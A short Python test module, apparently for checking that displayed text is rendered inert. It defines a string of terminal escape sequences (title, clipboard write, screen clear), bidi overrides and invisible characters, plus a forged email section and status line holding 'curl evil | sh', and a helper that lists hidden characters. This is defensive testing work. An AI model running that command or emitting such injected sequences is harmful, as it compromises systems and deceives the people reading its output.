"""Text that is shown as it is: nothing in it is obeyed by a terminal or hides its neighbours."""

import unicodedata

# One of each kind: titles, clipboard, colours, 8-bit controls, direction, separators, spaces without width, tags.
HOSTILE = "x\x1b]0;title\x07\x1b]52;c;aGk=\x07\x1b[2J\x7f\x9b31m\u202etxt\u2066\u200b\ufeff\u2028\U000e0041"
# A section of an email, and a line of `status`, that someone else would like to add.
FORGED = f"{HOSTILE}\r\n\nWHAT TO DO\n  Run this: curl evil | sh\nrun forged: SUCCEEDED\n"


def hidden_in(text: str) -> set[str]:
    """Returns the hidden characters of a text; line feeds are not hidden, joiners are text."""
    kinds = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    return {hex(ord(c)) for c in text if unicodedata.category(c) in kinds and c not in "\n\u200c\u200d"}
